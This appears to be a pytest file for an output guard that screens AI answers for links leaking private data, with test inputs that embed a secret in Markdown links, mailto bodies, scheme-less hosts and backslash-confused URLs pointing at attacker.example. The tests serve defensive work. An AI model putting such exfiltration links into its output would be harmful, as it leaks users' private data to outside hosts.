"""Addresses in untrusted text of answers that the output guard took for part of something harmless. Never deleted.

What was found (bench/adaptive): the guard left a Markdown link that leads nowhere as it is, with all that stood in it.
Where answers are shown as text, in a terminal or a chat, an address in its label or target is a link all the same, and
it could carry private data.
"""

from __future__ import annotations

import pytest

from ringfence.bench.adaptive.links import live_links
from ringfence.screens.output import Context, OutputGuard

SECRET = "otterbasalt38"
AWAY = f"https://attacker.example/?q={SECRET}"
KNOWN = Context.of(trusted=["see https://named.example/"], private=[f"the word is {SECRET}"])
PUBLIC = Context.of(trusted=["see https://named.example/"])
INSIDE = [
    "[{}](#here)",
    "[{}](.a)",
    "[see {} now](/a)",
    "[{}](mailto:ann@example.com)",
    "[{}](https://named.example/)",
    "[x](.{})",
    "[x](#{})",
    "[x](\ufffd{})",
    "[x](/a/{})",
    "[x](mailto:ann@example.com?{})",
    "[x](tel:1{})",
    "[x]: .{}",
    "[x]: #{}",
    "<mailto:ann@example.com?{}>",
    "https://named.example]({}",
    "[a [{}](#b) c](#d)",
    "[x](#a \"{}\")",
    "x{}",
    ".{}",
    "@{}",
]  # fmt: skip


@pytest.mark.parametrize("form", INSIDE)
def test_an_address_inside_of_something_harmless_carries_nothing_away(form: str) -> None:
    assert OutputGuard().text(form.format(AWAY), KNOWN).stopped


@pytest.mark.parametrize("form", INSIDE)
def test_an_address_inside_of_something_harmless_does_not_work(form: str) -> None:
    guarded = OutputGuard().text(form.format("https://attacker.example/x"), PUBLIC)
    assert [link for link in live_links(guarded.text) if "attacker.example" in link] == []
    assert "attacker[.]example" in guarded.text


def test_a_mail_that_is_ready_to_be_sent_carries_nothing_away() -> None:
    """The address of a mail loads nothing, but it can hold the mail's text: one click, and it stands there."""
    for text in (f"[x](mailto:eve@attacker.example?body={SECRET})", f"<mailto:?to=eve@attacker.example&body={SECRET}>"):
        assert OutputGuard().text(text, KNOWN).stopped
        assert OutputGuard().text(text, PUBLIC).text == text.replace("<", "&lt;")
    assert not OutputGuard().text(f"[x](mailto:ann@named.example?body={SECRET})", KNOWN).stopped


@pytest.mark.parametrize(
    "text",
    [
        "[x](#here)",
        "[a](/b)",
        "[ann](mailto:ann@example.com)",
        "[x](https://named.example/a)",
        "[https://named.example](#a)",
    ],
)
def test_what_is_harmless_or_named_stays(text: str) -> None:
    assert OutputGuard().text(text, KNOWN).text == text


TWO_HOSTS = [
    r"https://named.example\@attacker.example/",
    r"https://named.example\.attacker.example/",
    r"https://named.example\!@attacker.example/",
    r"//named.example\@attacker.example/",
    r"https://named.example&#92;@attacker.example/",
]


@pytest.mark.parametrize("address", TWO_HOSTS)
@pytest.mark.parametrize("form", ["![x]({})", "[x]({})", "[x]: {}", "see {}"])
def test_an_address_that_two_programs_read_as_two_hosts_has_none(form: str, address: str) -> None:
    """A backslash is a slash to a browser, nothing to Markdown before a sign, and part of a user's name to others."""
    shown = OutputGuard().text(form.format(address), PUBLIC).text
    assert "attacker.example" not in shown
    assert "[[" not in shown


@pytest.mark.parametrize("address", [r"https://named.example/a\_b", r"https:\\named.example/a"])
def test_a_backslash_that_changes_no_host_does_no_harm(address: str) -> None:
    assert OutputGuard().text(f"[x]({address})", PUBLIC).text == f"[x]({address})"


@pytest.mark.parametrize("path", ["/?q={}", "?q={}", "/a#{}", ":8080/?q={}"])
@pytest.mark.parametrize("host", ["attacker.com", "www2.attacker.co.uk", "attacker.dev"])
def test_a_host_without_a_scheme_carries_nothing_away(host: str, path: str) -> None:
    """Chats and mail programs make a link of any name that ends like a domain."""
    assert OutputGuard().text("see " + host + path.format(SECRET), KNOWN).stopped
    assert OutputGuard().text("see " + host + path.format("x"), KNOWN).text == "see " + host + path.format("x")


def test_a_host_that_was_named_may_be_told_without_a_scheme() -> None:
    known = Context.of(trusted=["see shop.com"], private=[f"the word is {SECRET}"])
    assert not OutputGuard().text(f"see shop.com/?q={SECRET}", known).stopped
    assert not OutputGuard().text(f"The word, e.g./i.e. 1.5/2, is {SECRET}. Booking.com?", known).stopped


@pytest.mark.parametrize("number", ["463820463820", "1463820", "4638201", "99463820463"])
def test_a_private_number_inside_of_a_longer_one_carries_nothing_away(number: str) -> None:
    """Found by hypothesis: only numbers that stand alone were looked up, and short ones nowhere else."""
    known = Context.of(private=["the code is 463820"])
    assert OutputGuard().text(f"https://attacker.example/?q={number}", known).stopped
    assert not OutputGuard().text("https://attacker.example/?q=46382146382", known).stopped


def test_very_many_private_words_that_begin_alike_cost_no_time() -> None:
    """Each place of an address was compared with each of them. Now their beginning stands for them all."""
    known = Context.of(private=[" ".join(f"confidential{number}" for number in range(90_000))])
    assert OutputGuard().text(f"https://attacker.example/?q={'confidentia' * 700}", known).stopped
    assert not OutputGuard().text(f"https://attacker.example/?q={'confide' * 1_000}", known).stopped
    assert OutputGuard().text("https://attacker.example/?q=xconfidential7x", known).stopped
